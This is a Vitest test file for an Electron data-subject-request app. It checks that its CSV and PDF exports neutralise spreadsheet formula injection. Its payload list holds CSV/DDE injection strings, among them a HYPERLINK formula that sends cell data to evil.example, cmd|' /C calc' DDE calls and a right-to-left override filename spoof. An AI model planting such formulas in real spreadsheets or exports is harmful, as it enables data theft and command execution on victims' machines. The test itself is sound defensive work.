import { describe, expect, it } from 'vitest';
import { letterPdf } from '../../../electron/dsar/letter-pdf';
import { registerCsv } from '../../../electron/dsar/register-csv';
import { recordsCsv } from '../../../electron/records/csv';
import { recordsPdf } from '../../../electron/records/pdf';
import { demoActivities } from '../../../sandbox/seed/activities';
import { demoProcessors } from '../../../sandbox/seed/processors';
import { csvDocument, inertCell } from '../../../shared/domain/csv';
import { recordsOfProcessing } from '../../../shared/domain/records';
import type { QueueRow } from '../../../shared/ipc/contract';
import { pdfText } from '../../support/pdf-text';

/**
 * What the public can type into a name, a note or a purpose and what a spreadsheet would run: formulas,
 * DDE, the characters that start them in full width, and Unicode that reorders or hides text.
 */
const payloads = [
  '=HYPERLINK("https://evil.example/?d="&E2,"Klick")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  'Erika\u202Egnp.exe',
  'Zero\u200Bwidth',
  'Weiß "Quote"; semi\nline',
];

/**
 * A cell is live when a spreadsheet would evaluate it: it starts with one of the characters OWASP lists, or
 * their full-width forms (listed here on their own, not taken from the implementation).
 */
const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const live = (cell: string) => triggers.some((trigger) => cell.replace(/^"/, '').startsWith(trigger));

/** The cells of a semicolon CSV as a spreadsheet reads them (quotes honoured). */
function cells(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, '');
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ';') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

const row = (payload: string, n: number): QueueRow => ({
  id: `dsr_${n}`,
  type: 'access',
  status: 'in_progress',
  subjectName: payload,
  subjectEmail: payload,
  receivedAt: '2026-11-02T09:00:00.000Z',
  dueDate: '2026-11-20',
  clockPaused: false,
  assigneeId: 'stf_x',
  priority: 'normal',
  pending: false,
});

describe('exports stay inert', () => {
  it('neutralises every trigger, also in full width, and leaves ordinary text alone', () => {
    for (const payload of payloads) expect(live(inertCell(payload)), payload).toBe(false);
    // Exactly one apostrophe in front, the payload kept to read.
    expect(inertCell('=1+1')).toBe("'=1+1");
    expect(inertCell('\uFF20SUM(A1)')).toBe("'\uFF20SUM(A1)");
    expect(inertCell('Jürgen Weiß')).toBe('Jürgen Weiß');
    expect(inertCell('')).toBe('');
  });

  it('the register CSV: payloads in every text column are text; days left is a number, negative when overdue', () => {
    const csv = registerCsv(
      payloads.map((payload, n) => row(payload, n)),
      'de',
      { staffNames: new Map([['stf_x', '=1+1']]), today: '2026-11-27' },
    );
    const table = cells(csv);
    expect(table).toHaveLength(payloads.length + 1);
    for (const line of table.slice(1)) {
      // Every text cell; the days left are a number (a spreadsheet reads -7 as minus seven, not as a formula).
      for (const cell of line.filter((_, column) => column !== 7)) expect(live(cell), cell).toBe(false);
      expect(line[7]).toBe('-7');
    }
    // Each payload is still there to read, behind its apostrophe.
    expect(table[1][3]).toBe(`'${payloads[0]}`);
    expect(table.at(-1)?.[3]).toBe(payloads.at(-1));
  });

  it("the records of processing CSV: payloads in the activities' text are text", () => {
    const activities = demoActivities.map((a, n) => ({
      ...a,
      name: payloads[n % payloads.length],
      purpose: payloads[(n + 1) % payloads.length],
    }));
    const records = recordsOfProcessing(
      activities,
      demoProcessors.map((p) => ({ ...p, legalName: '@evil' })),
      { controllerName: '=1+1', controllerAddress: '+49', controllerContact: '-', dpoName: '@dpo', dpoContact: '\t', representative: '' },
      '2026-11-27T10:00:00Z',
    );
    for (const language of ['de', 'en'] as const) {
      for (const line of cells(recordsCsv(records, language, 'Europe/Berlin'))) {
        for (const cell of line) expect(live(cell), cell).toBe(false);
      }
    }
  });

  it('numbers stay numbers and quoting survives separators and line breaks', () => {
    expect(csvDocument([['a', -3, 1.5, true, null]])).toBe('\uFEFFa;-3;1.5;true;\r\n');
    expect(cells(csvDocument([['x;y', 'line\nbreak', 'say "hi"']]))).toEqual([['x;y', 'line\nbreak', 'say "hi"']]);
  });

  it('PDFs print the payloads as text, transliterating what standard fonts cannot show', async () => {
    const letter = await letterPdf({
      requestId: 'dsr_1',
      message: { kind: 'denial', locale: 'de', subject: payloads[0], body: payloads.join('\n'), closing: payloads[2], delivery: 'post' },
      parts: [{ kind: 'reasons', title: payloads[1], text: payloads[12] }],
      sentAt: '2026-11-27T10:00:00Z',
      subject: { name: payloads[12], address: payloads[3] },
      controller: { controllerName: payloads[8], controllerAddress: payloads[4], controllerContact: payloads[5] },
      timeZone: 'Europe/Berlin',
    });
    const text = pdfText(letter);
    expect(text).toContain('DDE(');
    expect(text).toContain('Erika?gnp.exe');
    const activities = demoActivities.map((a, n) => ({ ...a, name: payloads[n % payloads.length] }));
    const records = recordsOfProcessing(
      activities,
      demoProcessors,
      { controllerName: 'C', controllerAddress: 'A', controllerContact: 'K', dpoName: 'D', dpoContact: 'E', representative: '' },
      '2026-11-27T10:00:00Z',
    );
    expect(pdfText(await recordsPdf(records, 'en', 'Europe/Berlin', (id) => id))).toContain('cmd|');
  });
});
